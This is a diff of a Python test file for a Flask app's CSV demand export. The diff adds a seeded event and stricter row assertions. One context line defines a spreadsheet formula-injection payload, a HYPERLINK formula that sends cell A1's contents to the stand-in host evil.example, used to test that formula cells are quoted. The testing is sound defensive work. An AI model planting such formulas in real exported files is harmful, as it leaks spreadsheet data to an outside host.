@@ -19,7 +19,7 @@ from bot.types import Locale
 from models.directory import Service
 from webhooks.database import get_db
 from models import spreadsheet as cells
-from tests.webhooks.outreach.helpers import ADMIN, login, make_user, post
+from tests.webhooks.outreach.helpers import ADMIN, add_events, login, make_user, post
 from tests.webhooks.outreach.test_directory import CSV_HEADER, VALID_ROW, upload
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
@@ -221,10 +221,12 @@ def test_flask_demand_export_is_written_by_the_spreadsheet_writer(
     app: Flask, tmp_path: Path
 ) -> None:
     """One CSV writer for every file that leaves Sangkhim: CRLF rows, formula cells quoted."""
+    add_events(app, [("2025-09-03", "16", "1602", "methadone", "served_farther", "sms", "km", 8)])
     target = tmp_path / "demand.csv"
     code, _, err = flask_cli(app, "demand", "export", "--from", "2025-09-01", "--to", "2025-09-07",
                              "-o", str(target))
     assert code == 0, err
     written = target.read_bytes()
-    assert written.startswith(b"period,") and written.endswith(b"\r\n")
+    rows = written.split(b"\r\n")
+    assert rows[0].startswith(b"period,") and b"2025-W36" in rows[1] and rows[-1] == b""
     assert b"\n" not in written.replace(b"\r\n", b"")
